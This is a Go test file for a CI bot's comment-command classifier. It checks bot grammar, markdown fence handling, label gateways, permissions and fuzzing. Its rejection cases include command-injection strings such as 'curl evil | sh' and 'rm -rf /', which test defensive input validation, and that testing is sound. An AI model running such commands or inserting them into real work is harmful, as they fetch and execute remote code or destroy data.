package scope

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

func resolved(t testing.TB, profile string) Config {
	t.Helper()
	c := DefaultConfig()
	c.Profile = profile
	c, err := c.Resolve()
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func classify(t testing.TB, body string, o ClassifyOptions) Command {
	t.Helper()
	if o.Config.Root == "" {
		o.Config = resolved(t, "flashinfer")
	}
	if o.Validate.Root == "" {
		o.Validate = OptionsFrom(o.Config)
	}
	cmd, err := Classify(body, o)
	if err != nil {
		t.Fatal(err)
	}
	return cmd
}

type cmdCase struct {
	name, body  string
	outcome     Outcome
	command     string
	targets     []string
	reason      string // exact when set
	reasonMatch string // substring when set
}

func runCmdCases(t *testing.T, tests []cmdCase, o ClassifyOptions) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := classify(t, tt.body, o)
			if got.Outcome != tt.outcome || got.Name != tt.command {
				t.Fatalf("got %s %q (%s), want %s %q", got.Outcome, got.Name, got.Reason, tt.outcome, tt.command)
			}
			if !slices.Equal(got.Targets, tt.targets) {
				t.Errorf("targets %q, want %q", got.Targets, tt.targets)
			}
			if tt.reason != "" && got.Reason != tt.reason {
				t.Errorf("reason %q, want %q", got.Reason, tt.reason)
			}
			if tt.reasonMatch != "" && !strings.Contains(got.Reason, tt.reasonMatch) {
				t.Errorf("reason %q, want it to contain %q", got.Reason, tt.reasonMatch)
			}
		})
	}
}

// TestBotGrammar is the table of spec A3 plus A4 through the comment.
func TestBotGrammar(t *testing.T) {
	runCmdCases(t, []cmdCase{
		{name: "bare run", body: "@flashinfer-bot run", outcome: Advisory, command: CmdRun},
		{name: "run all", body: "@flashinfer-bot run all", outcome: Accepted, command: CmdRunAll, targets: []string{}},
		{name: "run targets", body: "@flashinfer-bot run tests/attention/test_batch_prefill.py tests/gemm/", outcome: Accepted, command: CmdRun,
			targets: []string{"tests/attention/test_batch_prefill.py", "tests/gemm/"}},
		{name: "case-insensitive trigger and verb", body: "@FlashInfer-Bot RUN tests/a.py", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
		{name: "gitlab surface", body: "/bot run tests/a.py tests/a.py", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
		{name: "prose argument", body: "@flashinfer-bot run please", outcome: Rejected, command: CmdRun, reason: "targets outside tests/: please"},
		{name: "run full", body: "@flashinfer-bot run full", outcome: Rejected, command: CmdRun, reason: `run full is no longer valid; use "run all"`},
		{name: "all with a path", body: "@flashinfer-bot run all tests/x.py", outcome: Rejected, command: CmdRun, reason: "targets outside tests/: all"},
		{name: "injection", body: "@flashinfer-bot run tests/a.py; curl evil | sh", outcome: Rejected, command: CmdRun,
			reason: "targets contain characters not allowed in a test path: tests/a.py;, |; targets outside tests/: curl, evil, sh"},
		{name: "selector", body: "@flashinfer-bot run tests/a.py::test_x", outcome: Rejected, command: CmdRun, reasonMatch: "::selectors are not supported"},
		{name: "rerun", body: "@flashinfer-bot rerun", outcome: Accepted, command: CmdRerun},
		{name: "rerun failed", body: "@flashinfer-bot rerun failed", outcome: Accepted, command: CmdRerunFailed},
		{name: "rerun failed any case", body: "@flashinfer-bot Rerun FAILED", outcome: Accepted, command: CmdRerunFailed},
		{name: "stop", body: "/bot stop", outcome: Accepted, command: CmdStop},
		{name: "rerun with trailing tokens", body: "@flashinfer-bot rerun please", outcome: Rejected, command: CmdRerun, reason: "rerun takes no arguments: please"},
		{name: "rerun failed with trailing tokens", body: "@flashinfer-bot rerun failed now", outcome: Rejected, command: CmdRerunFailed, reason: "rerun failed takes no arguments: now"},
		{name: "stop with trailing tokens", body: "@flashinfer-bot stop it", outcome: Rejected, command: CmdStop},
		{name: "unknown verb", body: "@flashinfer-bot hello", outcome: Unrecognized, reason: `unknown verb "hello"`},
		{name: "trigger alone", body: "@flashinfer-bot", outcome: Unrecognized, reason: "no verb after the trigger"},
		{name: "nothing", body: "LGTM", outcome: Unrecognized, reason: "no command line"},
		{name: "other bot", body: "@other-bot run tests/a.py", outcome: Unrecognized},
	}, ClassifyOptions{})
}

// TestFirstUnfencedCommandLine covers spec A2.
func TestFirstUnfencedCommandLine(t *testing.T) {
	runCmdCases(t, []cmdCase{
		{name: "mention in prose", body: "Could someone ask @flashinfer-bot run tests/a.py?", outcome: Unrecognized},
		{name: "quoted reply", body: "> @flashinfer-bot run tests/a.py\n\nthanks", outcome: Unrecognized},
		{name: "nested quote", body: "  >> @flashinfer-bot run tests/a.py", outcome: Unrecognized},
		{name: "backtick fence", body: "```\n@flashinfer-bot run tests/a.py\n```", outcome: Unrecognized},
		{name: "tilde fence", body: "~~~text\n@flashinfer-bot run tests/a.py\n~~~", outcome: Unrecognized},
		{name: "unclosed fence runs to the end", body: "````\n@flashinfer-bot run tests/a.py\n```\n@flashinfer-bot stop", outcome: Unrecognized},
		{name: "longer closing fence closes", body: "```\nx\n`````\n@flashinfer-bot stop", outcome: Accepted, command: CmdStop},
		{name: "other fence character does not close", body: "```\n~~~\n@flashinfer-bot stop\n```", outcome: Unrecognized},
		{name: "fence indented 4 spaces is not a fence", body: "text\n    ```\n@flashinfer-bot stop", outcome: Accepted, command: CmdStop},
		{name: "inline code", body: "Try `@flashinfer-bot run tests/a.py` next time", outcome: Unrecognized},
		{name: "inline code at line start", body: "`@flashinfer-bot run tests/a.py`", outcome: Unrecognized},
		{name: "code glued into a login", body: "@flashinfer`x`-bot run tests/a.py", outcome: Unrecognized},
		{name: "double backtick span", body: "``@flashinfer-bot ` run`` tests", outcome: Unrecognized},
		{name: "indented code", body: "Example:\n\n    @flashinfer-bot run tests/a.py\n", outcome: Unrecognized},
		{name: "indented continuation is prose", body: "- item\n    @flashinfer-bot stop", outcome: Accepted, command: CmdStop},
		{name: "indented after a paragraph", body: "text\n    @flashinfer-bot stop", outcome: Unrecognized},
		{name: "tab-indented", body: "\t@flashinfer-bot stop", outcome: Unrecognized},
		{name: "list ended by a paragraph", body: "- item\n\ntext\n    @flashinfer-bot stop", outcome: Unrecognized},
		{name: "three spaces are not code", body: "   @flashinfer-bot stop", outcome: Accepted, command: CmdStop},
		{name: "command after a fence", body: "```\n@flashinfer-bot run all\n```\n@flashinfer-bot run tests/a.py", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
		{name: "first command line wins", body: "@flashinfer-bot run tests/a.py\n@flashinfer-bot run all", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
		{name: "first line malformed is not skipped", body: "@flashinfer-bot run please\n@flashinfer-bot run tests/a.py", outcome: Rejected, command: CmdRun},
		{name: "crlf", body: "hi\r\n@flashinfer-bot run tests/a.py\r\n", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
		{name: "arguments end at the line", body: "@flashinfer-bot run tests/a.py\ntests/b.py", outcome: Accepted, command: CmdRun, targets: []string{"tests/a.py"}},
	}, ClassifyOptions{})
}

// TestGateway is the table of spec B1 (miles profile).
func TestGateway(t *testing.T) {
	c := resolved(t, "miles")
	runCmdCases(t, []cmdCase{
		{name: "label", body: "/run-ci-megatron", outcome: Accepted, command: CmdAddLabel, targets: []string{"run-ci-megatron"}},
		{name: "stripped", body: "  /bypass-fastfail \n", outcome: Accepted, command: CmdAddLabel, targets: []string{"bypass-fastfail"}},
		{name: "python strip set", body: "\x1c/clear-labels\u00a0", outcome: Accepted, command: CmdClearLabels},
		{name: "nightly", body: "/nightly", outcome: Unrecognized},
		{name: "case-sensitive", body: "/Run-CI-megatron", outcome: Unrecognized},
		{name: "label with prose", body: "/run-ci-megatron please", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "two commands", body: "/run-ci-megatron\n/run-ci-short", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "marker in prose", body: "Thanks, I'll /clear-labels later", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "marker in a fence still fails", body: "```\n/clear-labels\n```", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "rerun-test", body: "/rerun-test tests/e2e/precision/test_hf_attention_cp_relayout.py", outcome: Accepted, command: CmdRerunTest,
			targets: []string{"tests/e2e/precision/test_hf_attention_cp_relayout.py"}},
		{name: "rerun-test several spaces", body: "/rerun-test   tests/fast-gpu/test_a.py", outcome: Accepted, command: CmdRerunTest, targets: []string{"tests/fast-gpu/test_a.py"}},
		{name: "rerun-test tab", body: "/rerun-test\ttests/e2e/x/test_a.py", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "rerun-test outside the roots", body: "/rerun-test tests/manual/test_a.py", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "rerun-test dot dot", body: "/rerun-test tests/e2e/../test_a.py", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "rerun-test hidden", body: "/rerun-test tests/e2e/.x/test_a.py", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "rerun-test not a test file", body: "/rerun-test tests/e2e/x/util.py", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "rerun-test absolute", body: "/rerun-test /tests/e2e/test_a.py", outcome: Rejected, reason: ReasonGatewayFail},
		{name: "clear-labels", body: "/clear-labels", outcome: Accepted, command: CmdClearLabels},
		{name: "rerun-failed-ci", body: "/rerun-failed-ci", outcome: Accepted, command: CmdRerunFailedCI},
		{name: "LGTM", body: "LGTM", outcome: Unrecognized},
	}, ClassifyOptions{Config: c})

	ignore := c
	ignore.ProseMentions = "ignore"
	runCmdCases(t, []cmdCase{
		{name: "marker in prose ignored", body: "Thanks, I'll /clear-labels later", outcome: Unrecognized},
		{name: "exact command still works", body: "/clear-labels", outcome: Accepted, command: CmdClearLabels},
	}, ClassifyOptions{Config: ignore})

	fail := resolved(t, "flashinfer")
	fail.ProseMentions = "fail"
	runCmdCases(t, []cmdCase{
		{name: "bot mention in prose fails", body: "ask @flashinfer-bot run tests/a.py", outcome: Rejected, reasonMatch: "bot mention outside a command line"},
	}, ClassifyOptions{Config: fail})
}

func TestGatewayPolicyAndAuthorization(t *testing.T) {
	c := resolved(t, "miles")
	p, err := ParsePolicy([]byte(referencePolicy), "policy.json")
	if err != nil {
		t.Fatal(err)
	}
	loads := 0
	load := func() (*Policy, error) { loads++; return p, nil }
	o := ClassifyOptions{Config: c, Policy: load}
	runCmdCases(t, []cmdCase{
		{name: "allowed label", body: "/run-ci-megatron", outcome: Accepted, command: CmdAddLabel, targets: []string{"run-ci-megatron"}},
		{name: "run-ci-all not exposed", body: "/run-ci-all", outcome: Rejected, command: CmdAddLabel, reason: ReasonLabelNotPolicy},
		{name: "typo not exposed", body: "/run-ci-typo", outcome: Rejected, command: CmdAddLabel, reason: ReasonLabelNotPolicy},
	}, o)
	o.Permission = "read"
	runCmdCases(t, []cmdCase{
		{name: "reader may not clear", body: "/clear-labels", outcome: Rejected, command: CmdClearLabels, reason: ReasonUnauthorized},
	}, o)
	o.Permission = "write"
	runCmdCases(t, []cmdCase{
		{name: "writer may clear", body: "/clear-labels", outcome: Accepted, command: CmdClearLabels},
	}, o)
	before := loads
	classify(t, "LGTM /run", o)
	if loads != before {
		t.Fatal("an unrelated comment loaded the access policy")
	}
	o.Policy = func() (*Policy, error) { return nil, errors.New("policy.json:1:1: broken") }
	if _, err := Classify("/clear-labels", o); err == nil {
		t.Fatal("policy error swallowed")
	}
}

func TestBotAuthorAndPermission(t *testing.T) {
	o := ClassifyOptions{Author: "FlashInfer-Bot"}
	runCmdCases(t, []cmdCase{
		{name: "bot's own comment", body: "@flashinfer-bot run all", outcome: Unrecognized, reason: "comment authored by the bot account itself"},
	}, o)
	o = ClassifyOptions{Author: "someone", Permission: "read"}
	runCmdCases(t, []cmdCase{
		{name: "reader", body: "@flashinfer-bot run all", outcome: Rejected, command: CmdRunAll, reason: ReasonUnauthorized},
	}, o)
	o.Permission = "triage"
	runCmdCases(t, []cmdCase{
		{name: "triage", body: "@flashinfer-bot stop", outcome: Accepted, command: CmdStop},
	}, o)
}

func TestCommandNotes(t *testing.T) {
	got := classify(t, "@flashinfer-bot run tests/a.py\n\n@flashinfer-bot stop", ClassifyOptions{})
	if got.Line != 1 || len(got.Notes) != 2 || !strings.HasPrefix(got.Notes[0], "extra-command-lines") ||
		got.Notes[1] != `grep-divergence: the reference handler's whole-body grep reads this comment as "stop"` {
		t.Fatalf("got %+v", got)
	}
	c := resolved(t, "flashinfer")
	c.RerunArgs = "ignore"
	got = classify(t, "@flashinfer-bot rerun please", ClassifyOptions{Config: c})
	if got.Outcome != Accepted || len(got.Notes) != 1 {
		t.Fatalf("got %+v", got)
	}
}

func TestFirstToken(t *testing.T) {
	for _, tt := range []struct{ in, tok, rest string }{
		{"a `b` c", "a", " `b` c"},
		{"`b` c d", "c", " d"},
		{"``b ` c`` d", "d", ""},
		{"`a` `b` c", "c", ""},
		{"a`b", "a`b", ""},
		{"``a` b", "``a`", " b"},
		{"@bot`x`-name", "@bot", "`x`-name"},
		{"  @bot run tests/`id`", "@bot", " run tests/`id`"},
		{"", "", ""},
		{"`only code`", "", ""},
	} {
		tok, end := firstToken(tt.in)
		if tok != tt.tok || tt.in[end:] != tt.rest {
			t.Errorf("firstToken(%q) = %q, rest %q; want %q, rest %q", tt.in, tok, tt.in[end:], tt.tok, tt.rest)
		}
	}
}

// FuzzClassify: no panic, and no accepted or advisory command ever carries
// a run target outside the charset, or a gateway target that was not the
// whole (stripped) comment.
func FuzzClassify(f *testing.F) {
	for _, s := range []string{
		"@flashinfer-bot run tests/a.py tests/gemm/", "@flashinfer-bot run all", "@flashinfer-bot run",
		"/bot run tests/a.py; rm -rf /", "> @flashinfer-bot run tests/a.py", "```\n@flashinfer-bot stop\n```",
		"`@flashinfer-bot run x`", "@flashinfer-bot rerun failed", "@flashinfer-bot hello", "/run-ci-megatron",
		"/rerun-test tests/e2e/x/test_a.py", "/clear-labels", "/rerun-failed-ci", "Thanks, I'll /clear-labels later",
		"    @flashinfer-bot run tests/a.py", "@flashinfer-bot run tests/a.py\u00a0tests/b.py", "\x1c/run-ci-x\x1f",
	} {
		f.Add(s)
	}
	configs := []Config{resolved(f, "flashinfer"), resolved(f, "miles")}
	f.Fuzz(func(t *testing.T, body string) {
		for _, c := range configs {
			cmd, err := Classify(body, ClassifyOptions{Config: c, Validate: OptionsFrom(c)})
			if err != nil {
				t.Fatal(err)
			}
			if cmd.Outcome == Rejected || cmd.Outcome == Unrecognized {
				if len(cmd.Targets) != 0 {
					t.Fatalf("%s command carries targets %q", cmd.Outcome, cmd.Targets)
				}
				continue
			}
			switch cmd.Name {
			case CmdRun:
				if cmd.Outcome == Accepted && len(cmd.Targets) == 0 {
					t.Fatal("accepted run without targets")
				}
				// Never widened: the targets are the arguments as written.
				if cmd.Outcome == Accepted && (!slices.Equal(cmd.Targets, dedup(cmd.Args)) || !isRun(SplitArgs(strings.ReplaceAll(body, "\r", "")), cmd.Args)) {
					t.Fatalf("accepted targets %q, arguments %q, comment %q", cmd.Targets, cmd.Args, body)
				}
				for _, tg := range cmd.Targets {
					assertSafeTarget(t, tg)
					if !strings.HasPrefix(tg, c.Root) || strings.Contains(tg, "..") || strings.Contains(tg, "::") {
						t.Fatalf("accepted target %q breaks the root/selector rules", tg)
					}
				}
			case CmdAddLabel, CmdRerunTest:
				if len(cmd.Targets) != 1 || !strings.HasSuffix(pyStrip(body), cmd.Targets[0]) {
					t.Fatalf("gateway target %q not from the whole comment %q", cmd.Targets, body)
				}
				assertSafeTarget(t, cmd.Targets[0])
			default:
				if len(cmd.Targets) != 0 {
					t.Fatalf("%s carries targets %q", cmd.Name, cmd.Targets)
				}
			}
		}
	})
}

// isRun reports whether sub occurs as consecutive elements of all.
func isRun(all, sub []string) bool {
	for i := 0; i+len(sub) <= len(all); i++ {
		if slices.Equal(all[i:i+len(sub)], sub) {
			return true
		}
	}
	return false
}

// TestReadLikeGrep covers the reference handler's interpretation (spec A2).
func TestReadLikeGrep(t *testing.T) {
	tests := []struct {
		body, name, args string
	}{
		{"@flashinfer-bot run tests/a.py tests/b.py", CmdRun, "tests/a.py tests/b.py"},
		{"@Flashinfer-bot run tests/a.py", CmdRun, "tests/a.py"},
		{"@FLASHINFER-BOT run tests/a.py", CmdRun, ""}, // the sed is case-sensitive after [Ff]
		{"@flashinfer-bot RUN tests/x.py", CmdRun, ""}, // the full suite
		{"@flashinfer-bot run tests/a.py\n@flashinfer-bot rerun", CmdRerun, ""},
		{"> @flashinfer-bot run tests/q.py", CmdRun, "tests/q.py"},
		{"`@flashinfer-bot stop`", CmdStop, ""},
		{"@flashinfer-bot rerun failed", CmdRerunFailed, ""},
		{"@flashinfer-bot hello", "", ""},
		{"x @flashinfer-bot run a @flashinfer-bot run b c", CmdRun, "b c"}, // greedy .*
		{"@flashinfer-bot running late", CmdRun, ""},
	}
	for _, tt := range tests {
		g := ReadLikeGrep(tt.body, "flashinfer-bot")
		if g.Name != tt.name || strings.Join(g.Args, " ") != tt.args {
			t.Errorf("%q: got %s %q, want %s %q", tt.body, g.Name, g.Args, tt.name, tt.args)
		}
	}
}

func TestGrepDivergenceAndCompat(t *testing.T) {
	c := resolved(t, "flashinfer")
	tests := []struct {
		body       string
		diverges   bool
		compat     Outcome
		compatName string
	}{
		{"@flashinfer-bot run tests/a.py", false, Accepted, CmdRun},
		{"@flashinfer-bot run all", false, Accepted, CmdRunAll},
		{"@flashinfer-bot RUN tests/x.py", true, Accepted, CmdRunAll},
		{"> @flashinfer-bot run tests/a.py", true, Accepted, CmdRun},
		{"@flashinfer-bot run tests/a.py\n\nthen @flashinfer-bot rerun", true, Accepted, CmdRerun},
		{"@flashinfer-bot running late", true, Accepted, CmdRunAll},
		{"LGTM", false, Unrecognized, ""},
	}
	for _, tt := range tests {
		own := classify(t, tt.body, ClassifyOptions{Config: c})
		got := false
		for _, n := range own.Notes {
			got = got || strings.HasPrefix(n, "grep-divergence")
		}
		if got != tt.diverges {
			t.Errorf("%q: divergence %v, want %v (%v)", tt.body, got, tt.diverges, own.Notes)
		}
		compat := classify(t, tt.body, ClassifyOptions{Config: c, Compat: "grep"})
		if compat.Outcome != tt.compat || compat.Name != tt.compatName {
			t.Errorf("%q: compat %s %s, want %s %s", tt.body, compat.Outcome, compat.Name, tt.compat, tt.compatName)
		}
	}
}

func TestIndentedCodeConfigurable(t *testing.T) {
	c := resolved(t, "flashinfer")
	c.IndentedCode = false
	got := classify(t, "Example:\n\n    @flashinfer-bot stop", ClassifyOptions{Config: c})
	if got.Outcome != Accepted || got.Name != CmdStop {
		t.Fatalf("got %+v", got)
	}
}
